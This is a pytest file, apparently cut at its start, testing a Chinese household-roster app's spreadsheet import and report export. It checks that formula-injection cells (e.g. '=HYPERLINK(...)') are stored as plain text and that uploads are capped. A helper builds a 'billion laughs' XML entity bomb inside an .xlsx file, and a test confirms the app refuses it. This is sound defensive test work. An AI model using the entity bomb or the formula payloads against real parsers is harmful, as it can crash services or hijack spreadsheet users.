    assert set(HOSTILE_CELLS.values()) <= texts and "=2*3" in texts
    assert not {"3", "0", "1", "6", "7"} & texts  # nothing was evaluated
    assert "evil.cn" not in "".join(r[4] for r in rows[1:])


def test_import_warns_about_formula_like_cells(app, tree, users):
    rows = clean_roster()
    rows[1][3] = "=1+2"  # as a CSV (or a text cell) keeps it; 0572-… and +86 … are no formulas
    rows[2][6] = "+86 138 0013 8000"
    text = io.StringIO()
    csv.writer(text).writerows([[header for _, header, _ in roster_template.COLUMNS], *rows])
    with app.app_context():
        plan = roster_import.read_roster(text.getvalue().encode(), user("admin"), filename="名册.csv")
        assert plan.errors == []
        assert [(row, column) for row, column, message in plan.warnings if "公式" in message] == [(3, "姓名")]
        assert "“=1+2”以“=”开头，电子表格会把它当作公式。已按文字导入" in plan.warnings[0][2]


def test_web_preview_can_be_dropped(app, client, make_client, make_user, tree, users):
    """放弃此文件 deletes the upload at once (only the uploader may), imports nothing and is audited."""
    client.login("village_admin")
    token = _upload(client, roster(*clean_roster())).headers["Location"].rsplit("/", 1)[1]
    folder = Path(app.instance_path) / "imports"
    assert "放弃此文件" in client.get(f"/households/import/{token}").get_data(as_text=True)
    make_user("va3", "village_admin", [tree["village_a"]])
    other = make_client()
    other.login("va3")
    other.get("/")
    assert other.post(f"/households/import/{token}/cancel").status_code == 404
    assert client.raw.get(f"/households/import/{token}/cancel").status_code == 405  # no change on GET
    resp = client.post(f"/households/import/{token}/cancel")
    assert resp.status_code == 302 and resp.headers["Location"].endswith("/households/import")
    assert "已放弃导入“名册.xlsx”" in client.get(resp.headers["Location"]).get_data(as_text=True)
    assert not (folder / f"{token}.upload").exists()
    assert client.get(f"/households/import/{token}").status_code == 404
    with app.app_context():
        assert db.session.scalar(select(func.count(Household.id))) == 0
        row = db.session.scalar(select(AuditLog).where(AuditLog.action == "import_cancel"))
        assert row.actor_name == "village_admin" and "名册.xlsx" in row.summary


def _entity_bomb():
    """An .xlsx whose shared strings define nested entities (a billion laughs when expanded)."""
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(roster(*clean_roster())))
    out = io.BytesIO()
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = f"<!DOCTYPE worksheet [{entities}]>" + data.decode().replace("<is><t>", "<is><t>&i;", 1)
                data = text.encode()
            dst.writestr(item, data)
    return out.getvalue()


def test_entity_bomb_is_refused_in_chinese_and_not_kept(app, client, users):
    import zipfile

    from app.core.imports import PendingUpload

    data = _entity_bomb()
    assert b"<!ENTITY i" in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    with app.app_context(), pytest.raises(ServiceError, match="实体炸弹"):
        read(data, "admin")
    client.login("village_admin")
    folder = Path(app.instance_path) / "imports"
    kept = set(folder.glob("*.upload"))
    resp = _upload(client, data)
    assert resp.status_code == 422 and "实体炸弹" in resp.get_data(as_text=True)
    assert set(folder.glob("*.upload")) == kept  # the refused file was never stored
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(PendingUpload)) == 0


def test_rows_past_the_configured_cap_are_refused(app, client, users, monkeypatch):
    rows = clean_roster()
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 4)
    with app.app_context():
        assert read(roster(*rows[:4]), "admin").errors == []
        with pytest.raises(ServiceError, match="超过了一次导入的上限（4 行数据）"):
            read(roster(*rows), "admin")  # five rows under the header
        with pytest.raises(ServiceError, match="超过了一次导入的上限（4 行数据）"):
            read(roster(*rows, *[person("东庄一组", f"东庄村{n}号") for n in range(40)]), "admin")  # stops reading
    client.login("village_admin")
    resp = _upload(client, ("code,name\n" + "1,x\n" * 100).encode("gbk"), "名册.csv")
    assert resp.status_code == 422 and "上限（4 行数据）" in resp.get_data(as_text=True)


def test_divisions_cli_reads_gbk_and_refuses_other_bytes(app, tmp_path):
    path = tmp_path / "divisions.csv"
    path.write_bytes("code,name,level,parent_code\n330522000000,长兴县,county,\n330522101000,雉城街道,town,330522000000\n"
                     .encode("gbk"))
    result = app.test_cli_runner().invoke(args=["import-divisions", str(path)])
    assert result.exit_code == 0 and result.exception is None, result.output
    with app.app_context():
        assert db.session.scalar(select(Grid.name).where(Grid.division_code == "330522101000")) == "雉城街道"
    path.write_bytes(b"\xff\xfe\x00\x81\xfe" * 10)
    result = app.test_cli_runner().invoke(args=["import-divisions", str(path)])
    assert result.exit_code == 1 and "编码无法识别" in result.output and "Traceback" not in result.output
    assert not isinstance(result.exception, UnicodeDecodeError)


def test_report_workbooks_write_formula_like_names_as_text():
    """The assessment's reports (core.sheets.report_workbook) go through the same safe writer."""
    from app.core.sheets import report_workbook

    wb = report_workbook("=考核", ["-周期"], ["名称", "总分"], [['=HYPERLINK("http://x")', 95.5], ["@甲村\x00", 80]],
                         totals=["+合计", 175.5])
    ws = load_workbook(io.BytesIO(_save(wb))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert '=HYPERLINK("http://x")' in values and "@甲村" in values and 95.5 in values and "+合计" in values
